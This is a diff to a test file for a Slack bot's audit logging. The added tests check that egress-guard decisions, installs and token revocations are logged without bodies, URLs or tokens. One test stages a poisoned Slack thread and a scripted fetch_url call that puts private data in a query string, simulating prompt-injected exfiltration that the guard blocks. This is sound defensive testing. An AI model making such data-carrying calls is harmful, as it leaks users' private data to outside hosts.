@@ -9,16 +9,24 @@ from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
 
+import aiohttp
 import jsonschema
 import pytest
 
 from bot import audit
 from bot.runs.approval_messages import APPROVE_ACTION_ID
+from bot.service import Service
 from tests.bot.conftest import App
 from tests.bot.test_approvals import _press, _start
+from tests.bot.test_egress import guarded, pages, poisoned_thread
+from tests.bot.test_oauth_service import install, oauth_service_settings, post_event, web
 from tests.bot.test_usage import ADMIN, ask, limits
 from tests.fakes.openai_server import FakeOpenAI, text, tool_calls
-from tests.fakes.slack_api import FakeSlack
+from tests.fakes.pages import PageServer
+from tests.fakes.slack_api import FakeSlack, Grant
+from tests.signing import event_body, mention, next_ts
+
+__all__ = ["guarded", "oauth_service_settings", "pages", "web"]  # fixtures shared with their own tests
 
 #: Unique words in what people and tools write: none may reach the audit stream.
 MARKERS = ("MARKERTASK31", "MARKERARG31", "MARKERANSWER31", "MARKERTHOUGHT31")
@@ -69,6 +77,45 @@ async def test_a_scripted_day_is_audited_by_the_schema_without_any_body(
     assert (approval["kind"], approval["tool"], approval["verdict"], approval["decided_by"]) == (
         "tool", "send_note", "approved", "U1")
     assert approval["run_id"] == runs[1]["run_id"]
+
+
+async def test_a_guard_hold_is_audited_with_its_host_and_never_the_url_or_the_data(
+    guarded: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI, pages: PageServer, audit_file: Path
+) -> None:
+    root = poisoned_thread(fake_slack, pages.url("/text"))
+    fake_openai.queue(tool_calls(("fetch_url", {"url": pages.url("/text") + "?d=zeta-7731-quartz"})), text("Done."))
+    await guarded.post_event(event_body(mention(text="<@UBOT> summarise this thread", ts=next_ts(), thread_ts=root)))
+    await guarded.drain()
+    assert "zeta-7731-quartz" not in audit_file.read_text() and "/text" not in audit_file.read_text()
+    written = lines(audit_file)
+    for line in written:
+        jsonschema.validate(line, audit.SCHEMA)
+    [held] = [e for e in written if e["event"] == "guard.decided"]
+    assert (held["tool"], held["decision"], held["reason"], held["host"]) == (
+        "fetch_url", "held_back", "leak", "")  # a call carrying private data names no destination
+    [run] = [e for e in written if e["event"] == "run.finished"]
+    assert run["tools"] == [{"name": "fetch_url", "outcomes": {"held_back": 1}}] and run["run_id"] == held["run_id"]
+
+
+async def test_installs_uninstalls_and_revocations_are_audited_without_tokens(
+    web: tuple[Service, aiohttp.ClientSession], fake_slack: FakeSlack, audit_file: Path
+) -> None:
+    service, http = web
+    url = f"http://127.0.0.1:{service.port}"
+    fake_slack.add_install("c1", Grant("T1"))
+    assert await install(http, url, "c1") == 200
+    revoked = {"type": "tokens_revoked", "event_ts": next_ts(), "tokens": {"oauth": ["U1"], "bot": ["UBOT"]}}
+    assert await post_event(http, url, event_body(revoked, team_id="T1")) == 200
+    assert await post_event(http, url, event_body({"type": "app_uninstalled", "event_ts": next_ts()},
+                                                  team_id="T1")) == 200
+    raw = audit_file.read_text()
+    assert fake_slack.tokens and not [t for t in fake_slack.tokens if t in raw]
+    written = lines(audit_file)
+    for line in written:
+        jsonschema.validate(line, audit.SCHEMA)
+    assert [e["event"] for e in written] == ["app.installed", "app.tokens_revoked", "app.uninstalled"]
+    assert (written[0]["team"], written[0]["org_wide"]) == ("T1", False) and written[0]["scopes"]
+    assert (written[1]["user_tokens"], written[1]["bot_token"]) == (1, True)
 
 
 def test_the_schema_rejects_a_line_with_a_field_it_does_not_document() -> None:
